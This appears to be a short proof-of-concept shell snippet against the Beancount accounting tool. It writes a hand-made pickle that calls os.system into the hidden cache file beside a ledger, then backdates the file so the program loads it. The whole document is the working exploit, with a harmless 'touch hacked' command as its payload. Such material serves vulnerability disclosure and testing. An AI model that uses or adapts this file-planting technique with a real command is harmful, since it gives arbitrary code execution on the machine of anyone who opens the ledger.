# Beancount would unpickle this file beside the ledger, and so run what it says.
printf "cos\nsystem\n(S'touch hacked'\ntR." > .main.beancount.picklecache
touch -d '2030-01-01' .main.beancount.picklecache
